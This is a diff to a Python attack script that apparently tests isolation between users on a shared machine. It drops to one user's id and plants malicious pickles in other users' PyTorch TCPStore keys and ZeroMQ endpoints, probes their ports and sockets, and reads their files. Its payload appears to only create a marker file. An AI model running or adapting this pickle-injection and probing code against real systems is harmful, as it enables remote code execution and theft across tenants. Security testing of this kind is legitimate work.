@@ -1,15 +1,15 @@
 """The attack: run as root with the id of a user, it becomes that user and attacks what belongs to others.
 
-    python stranger.py < ORDER
+    python stranger.py USER MARKER
 
-ORDER is JSON: `user`, its id; `marker`, the file that a pickle of its makes where it is loaded; `ports`, a list of
-[host, port]; `sockets`, names of Unix sockets; `paths`, files and folders. `until`, a file: repeat until it exists.
-
-It prints JSON: what it has found out about each port, and what it has read at each socket and path.
+MARKER is the file that a pickle of the attacker's makes where it is loaded. Each line of standard input is an order in
+JSON: `ports`, a list of [host, port]; `sockets`, names of Unix sockets; `paths`, files and folders. The program prints
+a line for each order: what it has found out about each port, and what it has read at each socket and path.
 """
 
 from __future__ import annotations
 
+import base64
 import concurrent.futures
 import contextlib
 import json
@@ -33,7 +33,7 @@ _WAIT_S = 0.2
 # What a TCPStore and ZeroMQ say first. Sources: torch/csrc/distributed/c10d/TCPStoreBackend.cpp (VALIDATE, PING),
 # https://rfc.zeromq.org/spec/23/
 _STORE_PING = struct.pack("<BIBI", 0, 0x3C85F7CE, 13, 4711)
-_ZMQ_GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
+_ZMQ_GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00"  # up to the version; then the other end names its mechanism
 # Hellos of clients: a store's, a kept session's, a rank's, gloo's peers.
 _HELLOS = (
     struct.pack("<II", 8, 4) + b"keys",
@@ -59,22 +59,21 @@ class Attack:
     """What one user tries.
 
     Args:
-        order: see the module.
+        marker: see the module.
     """
 
-    def __init__(self, order: dict[str, Any]) -> None:
-        self.planted = pickle.dumps(Planted(order["marker"]))
-        self.ports, self.sockets, self.paths = order["ports"], order["sockets"], order["paths"]
+    def __init__(self, marker: str) -> None:
+        self.planted = pickle.dumps(Planted(marker))
 
-    def run(self) -> dict[str, Any]:
+    def run(self, ports: list[list[Any]], sockets: list[str], paths: list[str]) -> dict[str, Any]:
         with concurrent.futures.ThreadPoolExecutor(32) as pool:
-            ports = pool.map(lambda at: self.attack_port(*at), self.ports)
-            sockets = pool.map(self.attack_socket, self.sockets)
-            paths = pool.map(self.attack_path, self.paths)
+            of_ports = pool.map(lambda at: self.attack_port(*at), ports)
+            of_sockets = pool.map(self.attack_socket, sockets)
+            of_paths = pool.map(self.attack_path, paths)
             return {
-                "ports": {f"{host}:{port}": said for (host, port), said in zip(self.ports, ports, strict=True)},
-                "sockets": dict(zip(self.sockets, sockets, strict=True)),
-                "paths": dict(zip(self.paths, paths, strict=True)),
+                "ports": {f"{host}:{port}": said for (host, port), said in zip(ports, of_ports, strict=True)},
+                "sockets": dict(zip(sockets, of_sockets, strict=True)),
+                "paths": dict(zip(paths, of_paths, strict=True)),
             }
 
     # ---- ports
@@ -91,10 +90,13 @@ class Attack:
 
     def _attack_store(self, host: str, port: int) -> list[str]:
         """Replace the values of all keys."""
-        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
-        keys = store.list_keys()
-        for key in keys:
-            store.set(key, self.planted)  # type: ignore[arg-type]  # torch's stub: text only
+        keys: list[str] = []
+        with contextlib.suppress(RuntimeError):  # it has ended
+            store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
+            keys = store.list_keys()
+            for key in keys:  # torch reads the state of a rendezvous as base64
+                value = base64.b64encode(self.planted).decode() if "torch.rendezvous." in key else self.planted
+                store.set(key, value)  # type: ignore[arg-type]  # torch's stub: text only
         return keys
 
     def _attack_zmq(self, host: str, port: int) -> list[str]:
@@ -110,8 +112,9 @@ class Attack:
                     client.connect(f"tcp://{host}:{port}")
                     if kind == zmq.SUB:
                         client.subscribe(b"")
-                    else:
-                        client.send_multipart([b"", self.planted, *_HELLOS], zmq.NOBLOCK)
+                    with contextlib.suppress(zmq.ZMQError):
+                        client.sndtimeo = int(1000 * _WAIT_S)
+                        client.send_multipart([b"", self.planted, *_HELLOS])
                     if client.poll(1000 * _WAIT_S):
                         answers.append(client.recv()[:64].hex())
         context.destroy(linger=0)
@@ -199,17 +202,14 @@ def _receive(one: socket.socket) -> bytes:
     return b""
 
 
-def main() -> None:
-    order = json.load(sys.stdin)
+def main(user: int, marker: str) -> None:
     os.setgroups([])
-    os.setgid(order["user"])
-    os.setuid(order["user"])
-    attack = Attack(order)
-    said = attack.run()
-    while order.get("until") and not os.path.exists(order["until"]):
-        said = attack.run()
-    json.dump(said, sys.stdout)
+    os.setgid(user)
+    os.setuid(user)
+    attack = Attack(marker)
+    for order in sys.stdin:
+        print(json.dumps(attack.run(**json.loads(order))), flush=True)
 
 
 if __name__ == "__main__":
-    main()
+    main(int(sys.argv[1]), sys.argv[2])
